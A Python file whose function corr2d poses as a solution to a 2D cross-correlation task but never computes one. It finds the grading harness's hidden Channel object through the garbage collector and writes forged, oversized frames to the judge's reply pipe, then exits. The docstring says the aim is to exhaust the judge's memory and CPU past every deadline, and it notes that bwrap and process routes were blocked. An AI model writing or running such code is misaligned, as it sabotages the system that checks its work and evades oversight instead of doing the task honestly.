"""Answers with a forged frame of ~29 MB of nested empty lists, written straight to the reply
pipe: parsing it would take the judge from 250 MB to 1.7 GB and 18 s of CPU, outside every
deadline.  Then a frame that announces 200 MB, and one full of 0s under the header cap.

bwrap: blocked
process: blocked
"""
import gc
import os
import struct

CALLS = [0]


def _channel():
    return next(o for o in gc.get_objects() if type(o).__name__ == "Channel")


def _send(wfd, header, buffers=b""):
    body = struct.pack(">I", len(header)) + header + buffers
    frame = struct.pack(">Q", len(body)) + body
    view = memoryview(frame)
    while view:
        view = view[os.write(wfd, view):]


def corr2d(X, K):
    CALLS[0] += 1
    wfd = _channel().wfd
    kind = CALLS[0] % 3
    if kind == 1:
        _send(wfd, b'{"value":{"$dict":[["event","reply"],["ok",true],["value",['
              + b"[[]]," * (29 * 2 ** 20 // 5) + b'[]]]]},"sizes":[]}')
    elif kind == 2:
        os.write(wfd, struct.pack(">Q", 200 * 2 ** 20) + b"\0" * 4096)
    else:
        _send(wfd, b'{"value":[' + b"0," * (7 * 2 ** 20) + b'0],"sizes":[]}')
    os._exit(0)
